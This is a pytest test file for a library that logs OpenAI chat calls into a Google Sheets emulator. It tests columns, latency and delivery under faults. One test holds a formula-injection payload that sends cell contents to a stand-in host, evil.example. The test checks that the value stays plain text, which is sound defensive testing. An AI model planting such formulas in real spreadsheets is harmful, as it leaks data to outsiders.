"""``instrument(backend="sheets")``, with the real OpenAI SDK."""

from __future__ import annotations

import statistics
import time
from pathlib import Path

import pytest
from openai import OpenAI

import hilt
from hilt.io.session import Session
from hilt.io.sheets.sink import SheetsSink
from hilt.testing.provider import Provider
from hilt.testing.sheets import Limits, SheetsEmulator

from .conftest import DOCUMENTED, HURRY
from .test_proofs import ALL_FAULTS

CALLS = Path(__file__).parent / "programs" / "calls.py"
RECORDING = "logfire.test_openai.test_sync_chat_completions_version_latest"


@pytest.fixture(autouse=True)
def _one_log():
    """Whatever a test instruments is taken off again."""
    yield
    hilt.uninstrument()


@pytest.fixture
def openai_client():
    """Makes clients, and closes them."""
    clients = []

    def make(**options):
        clients.append(OpenAI(**options))
        return clients[-1]

    yield make
    for client in clients:
        client.close()


@pytest.fixture
def environment(sheets, monkeypatch, tmp_path):
    """HILT finds the emulator, and keeps its outbox here."""
    monkeypatch.setenv("HILT_SHEETS_API_ROOT", sheets.api_root)
    monkeypatch.setenv("HILT_OUTBOX", str(tmp_path / "outbox"))


def check_documented(sheets: SheetsEmulator, question: str, answer: str) -> None:
    """The sheet holds exactly the documented columns in order, numbers as numbers."""
    tab = sheets.book().tab("LLM Logs")
    header, prompt, completion = tab.values()
    shown = [name for at, name in enumerate(header) if at not in tab.hidden_columns]
    assert shown == DOCUMENTED
    prompted = dict(zip(header, prompt, strict=True))
    completed = dict(zip(header, completion, strict=True))
    assert prompted["message"] == question
    assert (prompted["cost_usd"], prompted["status_code"], prompted["reply_to"]) == ("", "", "")
    assert completed["message"] == answer
    assert completed["reply_to"] == prompted["event_id"]
    assert completed["conversation_id"] == prompted["conversation_id"]
    assert completed["status_code"] == 200
    assert isinstance(completed["cost_usd"], float)
    assert completed["cost_usd"] > 0


@pytest.mark.usefixtures("environment")
def test_documented_example(openai_client, sheets, key):
    """Six columns, one call, two rows."""
    with Provider() as provider:
        provider.answer("A language.")
        hilt.instrument(
            backend="sheets", sheet_id="book", credentials_json=key, worksheet_name="LLM Logs",
            columns=DOCUMENTED, providers=["openai"],
        )  # fmt: skip
        client = openai_client(base_url=provider.openai_url, api_key="test")
        client.chat.completions.create(
            model="gpt-4o-mini", messages=[{"role": "user", "content": "What is Python?"}]
        )
        assert hilt.flush(10)

    check_documented(sheets, "What is Python?", "A language.")


@pytest.mark.shared
@pytest.mark.usefixtures("environment")
def test_documented_example_on_real_traffic(openai_client, sheets, key, shared, replay):
    """The same with what OpenAI really answered."""
    path = next((shared / "recordings").rglob(f"{RECORDING}.json"))
    with replay.server.ReplayServer([path]) as server:
        hilt.instrument(
            backend="sheets", sheet_id="book", credentials_json=key, worksheet_name="LLM Logs",
            columns=DOCUMENTED, providers=["openai"],
        )  # fmt: skip
        client = openai_client(base_url=f"{server.base_url}/v1", api_key="test")
        answer = client.chat.completions.create(
            model="gpt-4.1",
            messages=[
                {"role": "system", "content": "You are a helpful assistant."},
                {"role": "user", "content": "What is four plus five?"},
            ],
        )
        assert hilt.flush(10)

    check_documented(sheets, "What is four plus five?", answer.choices[0].message.content)


@pytest.mark.usefixtures("environment")
def test_injection_in_a_prompt_stays_text(openai_client, sheets, key):
    """From the user's mouth to the sheet, and back from the model."""
    evil = '=IMPORTDATA("http://evil.example/?"&B2)'
    with Provider() as provider:
        provider.answer(evil)
        hilt.instrument(
            backend="sheets", sheet_id="book", credentials_json=key, providers=["openai"]
        )
        client = openai_client(base_url=provider.openai_url, api_key="test")
        client.chat.completions.create(
            model="gpt-4o-mini", messages=[{"role": "user", "content": evil}]
        )
        assert hilt.flush(10)

    tab = sheets.book().tab("Logs")
    assert [row[7:9] for row in tab.values()[1:]] == [[evil, evil]]
    assert tab.formulas() == []


def latencies(client: OpenAI, rounds: int) -> list[float]:
    """How long each call takes, in milliseconds."""
    found = []
    for number in range(rounds):
        start = time.perf_counter()
        client.chat.completions.create(
            model="gpt-4o-mini", messages=[{"role": "user", "content": f"Number {number}"}]
        )
        found.append((time.perf_counter() - start) * 1000)
    return found


@pytest.mark.slow
@pytest.mark.usefixtures("environment")
def test_call_is_as_quick_as_with_the_local_backend(openai_client, sheets, key, tmp_path):
    """Less than a millisecond at the median, while Google takes half a second."""
    with Provider() as provider:
        client = openai_client(base_url=provider.openai_url, api_key="test")
        latencies(client, 30)
        local, remote = [], []
        for _ in range(4):
            hilt.instrument(filepath=str(tmp_path / "log.jsonl"), providers=["openai"])
            local += latencies(client, 100)
            sheets.latency_s = 0.0
            hilt.instrument(
                backend="sheets", sheet_id="book", credentials_json=key, providers=["openai"]
            )
            sheets.latency_s = 0.5
            remote += latencies(client, 100)

    difference = statistics.median(remote) - statistics.median(local)
    print(f"local {statistics.median(local):.3f} ms, sheets {statistics.median(remote):.3f} ms")
    assert difference < 1.0


@pytest.mark.slow
@pytest.mark.parametrize("calls", [500])
def test_two_thousand_openai_calls_of_four_processes(start_program, calls):
    """Real calls, quota, faults of every kind: every event once, each process's in order."""
    sheets, start = start_program
    sheets.faults.random(0.25, ALL_FAULTS, 7)
    names = [f"p{number}" for number in range(4)]
    with Provider() as provider:
        programs = [start(CALLS, name, calls, openai=provider.openai_url) for name in names]
        ends = [program.communicate(timeout=500) for program in programs]
    assert [out.split() for out, _ in ends] == [["written", "delivered"]] * 4, ends

    header, *rows = sheets.book().tab("Logs").values()
    assert header == ["timestamp", "conversation_id", "action", "message", "event_id"]
    assert len(rows) == len({row[4] for row in rows}) == 2 * calls * len(names)
    prompts = [row[3] for row in rows if row[2] == "prompt"]
    for name in names:
        mine = [text for text in prompts if text.startswith(f"{name} ")]
        assert mine == [f"{name} {number}" for number in range(calls)]
    print(f"{len(rows)} rows, {len(sheets.calls_of('write'))} writes, "
          f"{len(sheets.faults.happened)} faults of {len(set(sheets.faults.happened))} kinds")  # fmt: skip


@pytest.fixture
def start_program(tmp_path, start_writer):
    """An emulator with quotas, and a way to start programs against it."""
    with SheetsEmulator(limits=Limits(), speed=60, retry_after=True) as emulator:
        emulator.add_book("book")
        import json

        (tmp_path / "key2.json").write_text(json.dumps(emulator.service_account()))

        def start(program: Path, name: str, calls: int, **options: object):
            return start_writer(
                name, calls, program=program, api_root=emulator.api_root,
                key=str(tmp_path / "key2.json"), **options,
            )  # fmt: skip

        yield emulator, start


def test_sink_can_be_given_as_a_session(openai_client, sheets, key, tmp_path):
    """What `instrument()` has no argument for goes through a session of one's own."""
    sink = SheetsSink(
        sheet_id="book", credentials_json=key, outbox=tmp_path, api_root=sheets.api_root,
        columns=["message"], review=True, pace=HURRY,
    )  # fmt: skip
    with Provider() as provider:
        hilt.instrument(session=Session(sink).open(), providers=["openai"])
        client = openai_client(base_url=provider.openai_url, api_key="test")
        client.chat.completions.create(
            model="gpt-4o-mini", messages=[{"role": "user", "content": "Hi"}]
        )
        assert hilt.flush(10)

    assert sheets.book().tab("Logs").values()[1][0] == "Hi"
